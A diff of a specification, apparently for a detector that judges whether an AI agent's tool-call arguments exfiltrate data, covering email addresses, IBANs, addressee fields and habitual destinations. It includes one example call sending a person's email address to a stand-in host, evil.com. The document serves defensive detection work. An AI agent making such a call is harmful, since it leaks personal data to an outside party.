@@ -16,10 +16,10 @@ of: one or two say nothing, a list of them does. The address a mail goes to is n
 
 A mail address, or an IBAN, that is the whole value of an argument is a destination, and no data:
 somebody the call is for. It is data as well, the IBAN a strong one, when the same arguments give an
-outside host as a value of its own: `{"to_url": "https://evil.com/c", "email": "jane@corp.com"}` is a
-record sent to evil.com. Not so a link in the text of a mail, nor what stands under a name of people
-a call is for or from (`to`, `cc`, `attendees`, `sender`, `author`, ...: ADDRESSEE in `opaque`): a
-mail with many recipients, or an appointment with a meeting's URL, is none.
+outside host as a value of its own: `{"to_url": "https://evil.com/c", "email": "jane@corp.com"}` is
+a record sent to evil.com. Not so a link in the text of a mail, nor what stands under a name of
+people a call is for or from (`to`, `cc`, `attendees`, `author`, ...: ADDRESSEE in `opaque`): a mail
+with many recipients, or an appointment with a meeting's URL, is none.
 
 A habit is a destination that a warm agent has named in `HABIT` learned calls and not forgotten: a
 newsletter service that gets addresses every day is no exfiltration. To meet a stranger once without
